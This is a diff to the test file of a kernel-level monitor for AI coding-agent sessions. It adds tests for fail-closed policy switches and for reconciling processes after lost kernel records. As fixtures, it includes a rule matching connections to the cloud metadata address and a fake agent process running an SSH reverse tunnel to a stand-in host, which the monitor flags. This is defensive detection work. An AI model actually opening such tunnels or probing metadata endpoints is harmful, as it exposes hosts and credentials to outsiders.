@@ -150,6 +150,7 @@ class FakeProbes:
         self.doomed: set[int] = set()
         self.beats: list[float] = []
         self.calls: list[str] = []  # order of the lifecycle and map-writing calls
+        self.lost = 0  # Counter.LOST
 
     def open(self) -> None:
         self.calls.append("open")
@@ -204,7 +205,7 @@ class FakeProbes:
         return [(t.pid, t.cpu_ns) for t in self.procs.values()]
 
     def counters(self) -> dict[Counter, int]:
-        return {c: 0 for c in Counter}
+        return {c: self.lost if c == Counter.LOST else 0 for c in Counter}
 
     def set_setting(self, setting: Setting, value: int) -> None:
         self.calls.append(f"set_setting {setting.name}")
@@ -816,3 +817,61 @@ def test_a_truncated_argv_is_completed_only_from_the_same_command_line(
         full: tuple[str, ...], cut: tuple[str, ...], same: bool) -> None:
     from monitor.runtime import _continues
     assert _continues(full, cut) is same
+
+
+# --- fail-closed and connect decisions (policy-wide kernel switches) -----------------------
+
+
+@pytest.mark.parametrize("text,fail_closed,decide", [
+    ("mode: enforce\n", 1, 0),
+    ("mode: enforce\nfail_closed: alert\n", 0, 0),
+    ("mode: enforce\nrules:\n  - name: meta\n    event: connect\n    action: alert\n"
+     "    match: {address: [169.254.169.254]}\n", 1, 1),
+])
+def test_policy_switches_reach_the_kernel_at_start_and_reload(
+        tmp_path: Path, text: str, fail_closed: int, decide: int) -> None:
+    from monitor.policy import load_policy_text
+
+    r = rig(tmp_path)
+    r.mon.start()
+    try:
+        assert r.probes.settings[Setting.FAIL_CLOSED] == 1  # the default: kill
+        r.mon.reload(r.mon.config, load_policy_text(text, "p.yaml"))
+        assert r.probes.settings[Setting.FAIL_CLOSED] == fail_closed
+        assert r.probes.settings[Setting.CONNECT_DECIDE] == decide
+    finally:
+        r.mon.stop()
+
+
+def test_reconcile_forgets_what_the_kernel_stopped_tracking_and_judges_what_it_missed(
+        tmp_path: Path) -> None:
+    """Records lost: a process the map dropped (its exit record lost) leaves the tracker
+    after two ticks; one the map holds but no record announced is read from /proc and
+    judged."""
+    from monitor.policy import load_policy_text
+
+    r = rig(tmp_path)
+    agent_tree(r.proc)
+    r.mon.start()
+    try:
+        r.mon.reload(r.mon.config, load_policy_text(
+            "mode: monitor\nrules:\n  - name: no-reverse\n    event: exec\n"
+            "    action: kill\n    match: {ssh: [remote_forward]}\n", "p.yaml"))
+        (session,) = [s for s in r.mon.tracker.sessions() if s.agent == "claude-code"]
+        gone = next(iter(session.processes))
+        r.probes.procs.pop(gone)  # exited; its exit record never came
+        make_proc(r.proc, 4242, session.root_pid, "ssh",
+                  argv=("ssh", "-R", "9000:localhost:22", "x.example"))
+        r.probes.procs[4242] = TrackedProc(4242, session.id,
+                                           r.mon.agents.index("claude-code"),
+                                           session.root_pid, events.STATUS_UNSET, 0, 0)
+        r.probes.lost = 1  # the kernel counted a loss
+        r.mon.tick()
+        assert r.mon.tracker.process(gone) is not None  # one tick absent: maybe in flight
+        assert r.mon.tracker.process(4242) is not None
+        (v,) = r.log.find("verdict")
+        assert v["pid"] == 4242 and v["rule"] == "no-reverse" and v["outcome"] == "would kill"
+        r.mon.tick()
+        assert r.mon.tracker.process(gone) is None
+    finally:
+        r.mon.stop()
